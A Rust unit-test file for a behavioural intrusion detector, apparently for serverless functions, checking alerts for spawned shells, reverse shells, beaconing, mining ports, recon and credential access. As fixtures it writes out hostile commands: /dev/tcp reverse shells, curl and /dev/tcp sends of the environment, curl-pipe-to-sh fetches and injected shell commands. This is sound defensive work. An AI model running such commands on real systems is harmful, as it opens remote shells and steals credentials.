use super::*;
use crate::schema::Indicator;
use crate::schema::Proto;
use crate::testing::{endpoint, left_running, process};

fn feed(t: &mut Tracker, f: &Familiar, obs: &Observation) -> Vec<Indicator> {
    t.feed(obs, f, "/tmp/")
}

#[test]
fn a_shell_fires_once_per_invocation() {
    let (mut t, f) = (Tracker::default(), Familiar::default());
    assert_eq!(
        feed(&mut t, &f, &process(10, "/usr/bin/dash", "sh -c date")),
        vec![Indicator::ShellSpawned]
    );
    assert!(feed(&mut t, &f, &process(11, "/usr/bin/bash", "bash -i")).is_empty());
    assert_eq!(t.get(Indicator::ShellSpawned).map(|h| h.count), Some(2));
}

#[test]
fn familiar_programs_do_not_fire() {
    let mut f = Familiar::default();
    f.learn(&[
        process(1, "/usr/bin/gzip", "gzip -6"),
        endpoint("10.0.0.2:443"),
    ]);
    f.add_exe("sh");
    let mut t = Tracker::default();
    assert!(feed(&mut t, &f, &process(10, "/usr/bin/gzip", "gzip -9")).is_empty());
    assert!(feed(&mut t, &f, &process(11, "/bin/sh", "sh -c gzip")).is_empty());
    assert!(feed(&mut t, &f, &endpoint("10.0.0.2:443")).is_empty());
    assert_eq!(
        feed(&mut t, &f, &process(12, "/usr/bin/od", "od")),
        vec![Indicator::UnknownBinary]
    );
}

#[test]
fn exec_from_tmp_binary_or_script() {
    let f = Familiar::default();
    let mut t = Tracker::default();
    assert_eq!(
        feed(&mut t, &f, &process(10, "/tmp/x", "/tmp/x --run")),
        vec![Indicator::ExecFromTmp]
    );
    let mut t = Tracker::default();
    let fired = feed(
        &mut t,
        &f,
        &process(10, "/usr/bin/dash", "/bin/sh /tmp/drop.sh"),
    );
    assert_eq!(fired, vec![Indicator::ExecFromTmp, Indicator::ShellSpawned]);
}

#[test]
fn a_shell_and_a_new_connection_is_a_reverse_shell_in_either_order() {
    let f = Familiar::default();
    let mut t = Tracker::default();
    feed(&mut t, &f, &process(10, "/bin/bash", "bash -i"));
    let fired = feed(&mut t, &f, &endpoint("10.0.0.9:4242"));
    assert_eq!(
        fired,
        vec![
            Indicator::UnknownDestination,
            Indicator::ShellWithConnection
        ]
    );
    let hit = t.get(Indicator::ShellWithConnection).expect("fired");
    assert_eq!(hit.evidence.len(), 2);

    let mut t = Tracker::default();
    feed(&mut t, &f, &endpoint("10.0.0.9:4242"));
    let fired = feed(&mut t, &f, &process(10, "/bin/sh", "/bin/sh -i"));
    assert!(fired.contains(&Indicator::ShellWithConnection));
}

#[test]
fn network_indicators() {
    let f = Familiar::default();
    let mut t = Tracker::default();
    let fired = feed(&mut t, &f, &endpoint("10.0.0.9:3333"));
    assert_eq!(
        fired,
        vec![Indicator::MiningPort, Indicator::UnknownDestination]
    );
    let listener = Observation::Endpoint {
        proto: Proto::Tcp,
        addr: "0.0.0.0:4444".parse().expect("addr"),
        listen: true,
    };
    assert_eq!(feed(&mut t, &f, &listener), vec![Indicator::ListenerOpened]);
}

#[test]
fn left_running_and_credentials() {
    let f = Familiar::default();
    let mut t = Tracker::default();
    let fired = feed(&mut t, &f, &left_running(20, "/usr/bin/sleep", "sleep 300"));
    assert_eq!(fired, vec![Indicator::LeftRunning]);
    let fired = feed(
        &mut t,
        &f,
        &process(
            21,
            "/usr/bin/curl",
            "curl --data-binary @/proc/self/environ http://x/",
        ),
    );
    assert!(fired.contains(&Indicator::CredentialAccess));
}

#[test]
fn hits_keep_the_evidence_as_observed() {
    let f = Familiar::default();
    let mut t = Tracker::default();
    feed(
        &mut t,
        &f,
        &process(
            21,
            "/usr/bin/curl",
            "curl -d AWS_SECRET_ACCESS_KEY=abc123 http://x/",
        ),
    );
    let hit = t.get(Indicator::CredentialAccess).expect("fired");
    match &hit.evidence[0] {
        Observation::Process { cmdline, .. } => {
            // The detector redacts the copy a finding writes (detector tests).
            assert_eq!(cmdline, "curl -d AWS_SECRET_ACCESS_KEY=abc123 http://x/")
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn weights_and_features() {
    assert!(Indicator::UnknownBinary.weight(true) > Indicator::UnknownBinary.weight(false));
    assert!(Indicator::UnknownDestination.weight(true) < 0.5);
    assert_eq!(
        Indicator::ShellWithConnection.class(),
        Class::CommandInjection
    );
    assert_eq!(Indicator::ShellOverSocket.class(), Class::ReverseShell);
    assert!(Indicator::ShellOverSocket.is_hard() && !Indicator::ShellWithConnection.is_hard());
    assert_eq!(Indicator::LeftRunning.feature(), idx::LEFT_RUNNING);
}

#[test]
fn a_runtime_forking_itself_is_not_an_unknown_binary() {
    let f = Familiar::default();
    let mut t = Tracker::default();
    let mut fork = process(
        13,
        "/var/lang/bin/python3.12",
        "python -m awslambdaric handler.handler",
    );
    if let Observation::Process { runtime_fork, .. } = &mut fork {
        *runtime_fork = true;
    }
    assert!(feed(&mut t, &f, &fork).is_empty());
    let mut exec = process(13, "/usr/bin/od", "od");
    if let Observation::Process { exec: e, .. } = &mut exec {
        *e = true;
    }
    assert_eq!(feed(&mut t, &f, &exec), vec![Indicator::UnknownBinary]);
}

#[test]
fn a_program_named_like_a_runtime_is_not_trusted_for_its_name() {
    let f = Familiar::default();
    // Dropped outside /tmp and named to pass for the runtime, but not of its lineage.
    for exe in ["/var/task/python3", "/opt/bin/node", "/mnt/efs/bootstrap"] {
        let mut t = Tracker::default();
        let named = process(21, exe, exe);
        assert_eq!(
            feed(&mut t, &f, &named),
            vec![Indicator::UnknownBinary],
            "{exe}"
        );
    }
}

#[test]
fn a_secret_in_a_command_is_redacted_in_its_shape_so_a_rotated_one_matches() {
    let with = |token: &str| {
        command_shape(&format!(
            "/bin/sh -c curl -H 'Authorization: Bearer {token}' https://api/x"
        ))
    };
    let shape = with("eyJhbGciOiJIUzI1NiJ9abcDEF123");
    assert!(!shape.contains("eyJ"), "{shape}");
    assert_eq!(shape, with("eyJhbGciOiJSUzI1NiJ9xyzUVW987"));
}

#[test]
fn command_shapes_keep_the_command_and_drop_what_varies() {
    assert_eq!(
        command_shape(
            "/bin/sh -c gzip -9 -c /tmp/inbox/a1.bin | wc -c && sha256sum /tmp/inbox/a1.bin"
        ),
        "sh -c gzip -0 -c /tmp/inbox/* | wc -c && sha0sum /tmp/inbox/*"
    );
    assert_eq!(
        command_shape(
            "/bin/sh -c gzip -2 -c /tmp/inbox/ff.bin | wc -c && sha256sum /tmp/inbox/ff.bin"
        ),
        command_shape(
            "/usr/bin/sh -c gzip -9 -c /tmp/inbox/00.bin | wc -c && sha256sum /tmp/inbox/00.bin"
        )
    );
    // Text appended to the known command changes the shape.
    assert_ne!(
        command_shape(
            "/bin/sh -c gzip -6; id -c /tmp/inbox/a.bin | wc -c && sha256sum /tmp/inbox/a.bin"
        ),
        command_shape(
            "/bin/sh -c gzip -6 -c /tmp/inbox/a.bin | wc -c && sha256sum /tmp/inbox/a.bin"
        )
    );
}

#[test]
fn a_shell_is_familiar_only_with_a_known_command_shape() {
    let mut f = Familiar::default();
    f.learn(&[process(
        1,
        "/usr/bin/dash",
        "/bin/sh -c gzip -6 -c /tmp/in/a.bin | wc -c",
    )]);
    let mut t = Tracker::default();
    assert!(feed(
        &mut t,
        &f,
        &process(
            10,
            "/usr/bin/dash",
            "/bin/sh -c gzip -1 -c /tmp/in/b.bin | wc -c"
        )
    )
    .is_empty());
    assert_eq!(
        feed(
            &mut t,
            &f,
            &process(
                11,
                "/usr/bin/dash",
                "/bin/sh -c gzip -1; curl -s http://10.0.0.9/x | sh #"
            )
        ),
        vec![Indicator::ShellSpawned]
    );
    // A shell is never learned as a plain executable.
    assert!(!f.knows_exe("/usr/bin/dash"));
}

#[test]
fn only_interpreters_run_a_script_from_tmp() {
    let f = Familiar::default();
    let mut t = Tracker::default();
    let fired = feed(
        &mut t,
        &f,
        &process(10, "/usr/bin/gzip", "gzip -9 -c /tmp/inbox/a.bin"),
    );
    assert_eq!(fired, vec![Indicator::UnknownBinary]);
    let fired = feed(
        &mut t,
        &f,
        &process(11, "/usr/bin/python3.11", "python3 /tmp/.X11-unix/.sd"),
    );
    assert_eq!(fired, vec![Indicator::ExecFromTmp]);
}

#[test]
fn a_process_gone_before_it_could_be_named_is_not_judged() {
    let f = Familiar::default();
    let mut t = Tracker::default();
    assert!(feed(&mut t, &f, &process(10, "", "")).is_empty());
    // Its command line names it when only the executable link was unreadable.
    assert_eq!(
        feed(&mut t, &f, &process(11, "", "/usr/bin/od -x")),
        vec![Indicator::UnknownBinary]
    );
    let mut f = Familiar::default();
    f.learn(&[process(1, "", "")]);
    assert!(f.exes().is_empty());
}

#[test]
fn an_exiting_shell_without_a_command_line_is_judged_by_the_functions_habits() {
    let f = Familiar::default();
    let mut t = Tracker::default();
    assert_eq!(
        feed(&mut t, &f, &process(10, "/usr/bin/dash", "")),
        vec![Indicator::ShellSpawned]
    );
    let mut f = Familiar::default();
    f.add_shell_shape(&command_shape("/bin/sh -c gzip -6 -c /tmp/in/a.bin"));
    let mut t = Tracker::default();
    assert!(feed(&mut t, &f, &process(10, "/usr/bin/dash", "")).is_empty());
}

fn program(exe: &str) -> Observation {
    Observation::Program { exe: exe.into() }
}

#[test]
fn a_program_seen_only_by_the_file_watch_is_judged_like_a_process() {
    let mut f = Familiar::default();
    f.learn(&[program("/usr/bin/gzip")]);
    let mut t = Tracker::default();
    assert!(feed(&mut t, &f, &program("/usr/bin/gzip")).is_empty());
    assert_eq!(
        feed(&mut t, &f, &program("/usr/bin/od")),
        vec![Indicator::UnknownBinary]
    );
    assert_eq!(
        feed(&mut t, &f, &program("/tmp/.x/payload")),
        vec![Indicator::ExecFromTmp]
    );
    // A shell without a command line: new for a function that runs none...
    assert_eq!(
        feed(&mut t, &f, &program("/usr/bin/dash")),
        vec![Indicator::ShellSpawned]
    );
    // ...familiar for one whose shell commands are known (its shape cannot be checked).
    let mut runs_shells = Familiar::default();
    runs_shells.learn(&[process(
        1,
        "/usr/bin/dash",
        "sh -c gzip -6 -c /tmp/in/a.bin",
    )]);
    let mut t = Tracker::default();
    assert!(feed(&mut t, &runs_shells, &program("/usr/bin/dash")).is_empty());
}

#[test]
fn a_process_still_running_from_earlier_is_persistence_with_its_name() {
    let (mut t, f) = (Tracker::default(), Familiar::default());
    let planted = Observation::StillRunning {
        pid: 77,
        exe: "/usr/bin/python3.11".into(),
        cmdline: "python3 /tmp/.X11-unix/.sd".into(),
    };
    assert_eq!(feed(&mut t, &f, &planted), vec![Indicator::StillRunning]);
    assert_eq!(Indicator::StillRunning.class(), Class::Persistence);
    assert_eq!(t.get(Indicator::StillRunning).unwrap().evidence.len(), 1);
}

#[test]
fn a_command_repeated_in_a_new_environment_becomes_a_habit_after_three_invocations() {
    let mut f = Familiar::default();
    let own = [
        process(
            10,
            "/usr/bin/dash",
            "sh -c gzip -6 -c /tmp/in/a1.bin | wc -c",
        ),
        program("/usr/bin/dash"),
        program("/usr/bin/gzip"),
    ];
    for n in 0..HABIT_REPEATS {
        let mut t = Tracker::default();
        let fired = own.iter().flat_map(|o| feed(&mut t, &f, o)).count();
        assert!(fired > 0, "invocation {n} is still reported");
        f.note_invocation(&own, &[]);
    }
    let mut t = Tracker::default();
    for o in &own {
        assert!(feed(&mut t, &f, o).is_empty(), "{o:?} is a habit now");
    }
    // Another command through the same shell is not.
    let injected = process(
        11,
        "/usr/bin/dash",
        "sh -c gzip -6 -c /tmp/in/a1.bin; id | wc -c",
    );
    assert_eq!(
        feed(&mut t, &f, &injected),
        vec![Indicator::ReconCommand, Indicator::ShellSpawned]
    );
    assert_eq!(
        feed(&mut t, &f, &program("/usr/bin/id")),
        vec![Indicator::UnknownBinary]
    );
}

#[test]
fn reconnaissance_is_named_where_a_command_starts() {
    let recon = |exe: &str, cmd: &str| is_recon(exe, cmd);
    assert!(recon("/usr/bin/id", "id -u"));
    assert!(recon(
        "/bin/sh",
        "sh -c gzip -6 -c /dev/null >/dev/null; id; uname -a #"
    ));
    assert!(recon("/bin/sh", "sh -c gzip -6 $(whoami >&2)"));
    assert!(recon("/bin/sh", "sh -c x && ls -la /var/task && ps -ef"));
    assert!(recon("/bin/sh", "sh -c find / -maxdepth 3 -name '*.pem'"));
    assert!(recon("/bin/bash", "bash -c env"));
    // Words in arguments, and `env` running a program, are not recon.
    assert!(!recon("/bin/sh", "sh -c gzip --id=3 uid"));
    assert!(!recon("/bin/sh", "sh -c env LANG=C sort"));
    assert!(!recon(
        "/bin/sh",
        "sh -c curl -sS http://h/doc | ./bin/converter -"
    ));
    assert!(!recon(
        "/usr/bin/env",
        "/usr/bin/env python3 ./bin/converter"
    ));
    assert!(!recon("/usr/bin/uname", "uname -m"));
}

#[test]
fn a_shell_wired_to_a_socket_is_a_reverse_shell() {
    let f = Familiar::default();
    let mut t = Tracker::default();
    let mut shell = process(10, "/bin/sh", "/bin/sh -i");
    if let Observation::Process { stdio_socket, .. } = &mut shell {
        *stdio_socket = true;
    }
    assert!(feed(&mut t, &f, &shell).contains(&Indicator::ShellOverSocket));
    let mut t = Tracker::default();
    let devtcp = process(
        11,
        "/bin/bash",
        "bash -c bash -i >& /dev/tcp/10.0.0.9/4444 0>&1",
    );
    assert!(feed(&mut t, &f, &devtcp).contains(&Indicator::ShellOverSocket));
    // A piped shell is not.
    let mut t = Tracker::default();
    let piped = process(12, "/bin/sh", "sh -c curl -sS http://h/a | wc -c");
    assert!(!feed(&mut t, &f, &piped).contains(&Indicator::ShellOverSocket));
    // Nor one that only writes to /dev/tcp: data sent out (here, the environment).
    let mut t = Tracker::default();
    let sends = process(
        13,
        "/bin/bash",
        "bash -c cat /proc/self/environ | head -c 4096 > /dev/tcp/10.0.0.9/8080",
    );
    let fired = feed(&mut t, &f, &sends);
    assert!(!fired.contains(&Indicator::ShellOverSocket), "{fired:?}");
    assert!(fired.contains(&Indicator::CredentialAccess), "{fired:?}");
    // With the shell reading from it, it is one, in each way of writing it.
    for cmdline in [
        "bash -c sh -i 5<> /dev/tcp/10.0.0.9/4444 0<&5 1>&5",
        "bash -c exec 3<>/dev/tcp/10.0.0.9/4444; sh <&3 >&3",
    ] {
        let mut t = Tracker::default();
        let fired = feed(&mut t, &f, &process(14, "/bin/bash", cmdline));
        assert!(
            fired.contains(&Indicator::ShellOverSocket),
            "{cmdline}: {fired:?}"
        );
    }
}

#[test]
fn a_habit_needs_repeats_in_half_the_invocations_since_it_appeared() {
    let own = [process(10, "/usr/bin/jq", "jq -c .items")];
    let other = [process(11, "/usr/bin/gzip", "gzip -6")];
    // Every invocation: familiar after three.
    let mut f = Familiar::default();
    for _ in 0..HABIT_REPEATS {
        assert!(!f.knows(&Habit::Program("/usr/bin/jq".into())));
        f.note_invocation(&own, &[]);
    }
    assert!(f.knows(&Habit::Program("/usr/bin/jq".into())));
    // One invocation in four: three sightings are not enough.
    let mut f = Familiar::default();
    for n in 0..12 {
        let evidence: &[Observation] = if n % 4 == 0 { &own } else { &other };
        f.note_invocation(evidence, &[]);
    }
    assert!(!f.knows(&Habit::Program("/usr/bin/jq".into())));
    assert!(f.knows(&Habit::Program("/usr/bin/gzip".into())));
}

#[test]
fn what_a_hard_indicator_brought_is_never_learned_and_its_destination_returns() {
    let attack = [
        process(10, "/tmp/.x/miner", "/tmp/.x/miner -o pool"),
        endpoint("10.9.9.9:3333"),
    ];
    let mut f = Familiar::default();
    for _ in 0..20 {
        f.note_invocation(&attack, &attack[..1]);
    }
    assert!(!f.knows(&Habit::Program("/tmp/.x/miner".into())));
    // Even an invocation that raised nothing does not teach it.
    f.learn(&attack);
    let mut t = Tracker::default();
    let fired = feed(&mut t, &f, &endpoint("10.9.9.9:3333"));
    assert!(
        fired.contains(&Indicator::ReturningDestination),
        "{fired:?}"
    );
    assert!(fired.contains(&Indicator::UnknownDestination), "{fired:?}");
}

#[test]
fn a_url_in_a_command_keeps_only_its_origin_in_the_shape() {
    assert_eq!(
        command_shape(
            "sh -c curl -sS -m 10 http://docs.sandbox:8081/t/acme/inv-1.pdf | ./bin/converter -"
        ),
        command_shape(
            "sh -c curl -sS -m 10 http://docs.sandbox:8081/t/globex/q-77.pdf | ./bin/converter -"
        ),
    );
    assert_ne!(
        command_shape("sh -c curl -sS http://docs.sandbox:8081/a.pdf"),
        command_shape("sh -c curl -sS http://evil.example:8081/a.pdf"),
    );
}

/// Feeds one invocation's destination (if any) and notes the invocation; returns what fired.
fn invocation(f: &mut Familiar, destination: Option<&str>) -> Vec<Indicator> {
    let evidence: Vec<Observation> = destination.into_iter().map(endpoint).collect();
    let mut t = Tracker::default();
    let fired = evidence.iter().flat_map(|o| feed(&mut t, f, o)).collect();
    f.note_invocation(&evidence, &[]);
    fired
}

#[test]
fn a_destination_that_appears_late_and_then_returns_at_every_thaw_is_beaconing() {
    let beacon = "10.9.9.7:8443";
    let mut f = Familiar::default();
    for _ in 0..4 {
        assert!(invocation(&mut f, None).is_empty());
    }
    // Planted at the fifth invocation; then called at every one.
    let runs: Vec<bool> = (0..10)
        .map(|_| invocation(&mut f, Some(beacon)).contains(&Indicator::Beaconing))
        .collect();
    // Beaconing from the third in a row until it has been seen HABIT_ALWAYS times.
    let expected: Vec<bool> = (1..=10)
        .map(|n| (BEACON_RUN..=HABIT_ALWAYS).contains(&n))
        .collect();
    assert_eq!(runs, expected);
    // Learned even from quiet invocations: the count goes on.
    let mut f = Familiar::default();
    invocation(&mut f, None);
    for n in 1..=BEACON_RUN {
        let addr = [endpoint(beacon)];
        let mut t = Tracker::default();
        let fired = feed(&mut t, &f, &addr[0]);
        assert_eq!(
            fired.contains(&Indicator::Beaconing),
            n == BEACON_RUN,
            "{n}"
        );
        f.note_invocation(&addr, &[]);
        f.learn(&addr);
    }
}

#[test]
fn a_partner_from_the_first_invocation_or_an_occasional_one_is_not_beaconing() {
    // Called by every invocation from the first: the function's own partner.
    let mut f = Familiar::default();
    for _ in 0..20 {
        let fired = invocation(&mut f, Some("10.0.0.5:443"));
        assert!(!fired.contains(&Indicator::Beaconing), "{fired:?}");
    }
    assert!(f.knows_destination(&"10.0.0.5:443".parse().unwrap()));
    // Appears late, then called by one invocation in two or three.
    let mut f = Familiar::default();
    invocation(&mut f, None);
    for n in 0..30 {
        let called = n % 3 != 2;
        let fired = invocation(&mut f, called.then_some("10.0.0.6:443"));
        assert!(!fired.contains(&Indicator::Beaconing), "{n}: {fired:?}");
    }
}

#[test]
fn reading_the_whole_environment_is_credential_access_and_one_variable_is_not() {
    for (exe, cmdline) in [
        ("/usr/bin/env", "env"),
        ("/usr/bin/printenv", "printenv"),
        ("/usr/bin/grep", "grep ^AWS_"),
        (
            "/usr/bin/jq",
            "jq -nc env | with_entries(select(.key | startswith(\"AWS_\")))",
        ),
        ("/usr/bin/jq", "jq -n $ENV"),
    ] {
        let mut t = Tracker::default();
        let fired = feed(&mut t, &Familiar::default(), &process(30, exe, cmdline));
        assert!(
            fired.contains(&Indicator::CredentialAccess),
            "{cmdline}: {fired:?}"
        );
    }
    for (exe, cmdline) in [
        ("/usr/bin/printenv", "printenv TABLE_NAME"),
        ("/usr/bin/env", "env LANG=C sort"),
        ("/usr/bin/jq", "jq -r env.TABLE_NAME"),
        ("/usr/bin/grep", "grep AWS_REGION config"),
    ] {
        let mut t = Tracker::default();
        let fired = feed(&mut t, &Familiar::default(), &process(31, exe, cmdline));
        assert!(
            !fired.contains(&Indicator::CredentialAccess),
            "{cmdline}: {fired:?}"
        );
    }
}

#[test]
fn a_shape_does_not_depend_on_how_many_digits_vary() {
    assert_eq!(
        command_shape("sh -c curl -sS http://10.213.62.217:35547/t/acme/1.pdf | ./bin/converter -"),
        command_shape("sh -c curl -sS http://10.213.5.9:8080/t/globex/22.pdf | ./bin/converter -"),
    );
    assert_ne!(
        command_shape("sh -c curl -sS http://10.213.5.9:8080/t/a.pdf | ./bin/converter -"),
        command_shape("sh -c curl -sS http://10.213.5.9:8080/t/a.pdf | sh"),
    );
}

#[test]
fn what_one_quiet_invocation_taught_is_forgotten_unless_it_comes_back() {
    let c2 = endpoint("10.7.7.7:443");
    let partner = endpoint("10.1.1.1:443");
    let mut f = Familiar::default();
    // Invocation 1 contacts both, raises nothing and is learned at once.
    f.note_invocation(&[c2.clone(), partner.clone()], &[]);
    f.learn(&[c2.clone(), partner.clone()]);
    assert!(f.knows_destination(&"10.7.7.7:443".parse().unwrap()));
    // The partner comes back now and then; the C2 does not, for FORGET_AFTER invocations.
    for n in 2..=FORGET_AFTER + 2 {
        let seen = if n % 10 == 0 {
            vec![partner.clone()]
        } else {
            Vec::new()
        };
        f.note_invocation(&seen, &[]);
    }
    assert!(!f.knows_destination(&"10.7.7.7:443".parse().unwrap()));
    assert!(f.knows_destination(&"10.1.1.1:443".parse().unwrap()));
    let mut t = Tracker::default();
    let fired = feed(&mut t, &f, &c2);
    assert!(fired.contains(&Indicator::UnknownDestination), "{fired:?}");
}

#[test]
fn what_one_quiet_invocation_taught_and_an_attack_brings_back_is_forgotten_or_tainted() {
    let partner = endpoint("10.1.1.1:443");
    let c2 = endpoint("10.7.7.7:443");
    let mut f = Familiar::default();
    f.note_invocation(&[partner.clone(), c2.clone()], &[]);
    f.learn(&[partner.clone(), c2.clone()]);
    assert!(f.knows_destination(&"10.1.1.1:443".parse().unwrap()));
    // An attack whose hard evidence names the C2 (the shell's connection), in an invocation
    // that also called the function's partner as usual.
    let shell = process(30, "/bin/sh", "sh -c id");
    f.note_invocation(
        &[shell.clone(), c2.clone(), partner.clone()],
        &[shell, c2.clone()],
    );
    let mut t = Tracker::default();
    let fired = feed(&mut t, &f, &c2);
    assert!(
        fired.contains(&Indicator::ReturningDestination),
        "{fired:?}"
    );
    assert!(fired.contains(&Indicator::UnknownDestination), "{fired:?}");
    // The partner is trusted no more, but it is not the attack's.
    let mut t = Tracker::default();
    let fired = feed(&mut t, &f, &partner);
    assert!(fired.contains(&Indicator::UnknownDestination), "{fired:?}");
    assert!(
        !fired.contains(&Indicator::ReturningDestination),
        "{fired:?}"
    );
}

#[test]
fn a_habitual_shell_running_only_known_programs_is_its_own_work() {
    // The shell and its programs are habits (the file watch sees them run every time), but
    // its command line was read too rarely for the shape to be learned.
    let mut f = Familiar::default();
    let seen = ["/usr/bin/dash", "/usr/bin/gzip", "/usr/bin/wc"]
        .map(|exe| Observation::Program { exe: exe.into() });
    for _ in 0..4 {
        f.note_invocation(&seen, &[]);
    }
    assert!(f.runs_shells() && f.knows_exe("/usr/bin/gzip"));
    let own = "/bin/sh -c gzip -6 -c /tmp/in/a.bin | wc -c && gzip -t /tmp/in/a.bin";
    assert!(f.knows_shell("/usr/bin/dash", own));
    // Anything else it starts, a nested shell, or a variable as a command: not its work.
    for injected in [
        "/bin/sh -c gzip -6 -c /tmp/in/a.bin | wc -c; curl -s http://10.0.0.9/x",
        "/bin/sh -c gzip -6 $(cat /tmp/x) | wc -c",
        "/bin/sh -c gzip -6 | sh",
        "/bin/sh -c $CMD",
    ] {
        assert!(!f.knows_shell("/usr/bin/dash", injected), "{injected}");
    }
    // A function that runs no shell by habit learns nothing from its programs.
    let mut g = Familiar::default();
    g.learn(&[Observation::Program {
        exe: "/usr/bin/gzip".into(),
    }]);
    assert!(!g.knows_shell("/usr/bin/dash", "/bin/sh -c gzip -6"));
}

#[test]
fn a_custom_runtime_posting_its_response_is_not_left_running() {
    let f = Familiar::default();
    let mut t = Tracker::default();
    let post = "curl -sS -o /dev/null -X POST --data-binary @/tmp/tmp.x \
                http://127.0.0.1:9001/2018-06-01/runtime/invocation/abc/response";
    let fired = feed(&mut t, &f, &left_running(30, "/usr/bin/curl", post));
    assert!(!fired.contains(&Indicator::LeftRunning), "{fired:?}");
    let fired = feed(
        &mut t,
        &f,
        &left_running(31, "/usr/bin/curl", "curl -s http://c2/x"),
    );
    assert!(fired.contains(&Indicator::LeftRunning));
}

#[test]
fn a_shell_runtimes_own_subshell_is_no_shell_spawned() {
    let f = Familiar::default();
    let mut t = Tracker::default();
    let mut fork = process(13, "/usr/bin/bash", "/bin/bash /var/task/bootstrap");
    if let Observation::Process { runtime_fork, .. } = &mut fork {
        *runtime_fork = true;
    }
    assert!(feed(&mut t, &f, &fork).is_empty());
    let started = process(14, "/usr/bin/bash", "bash -c curl -s http://10.0.0.9/x");
    assert_eq!(feed(&mut t, &f, &started), vec![Indicator::ShellSpawned]);
}
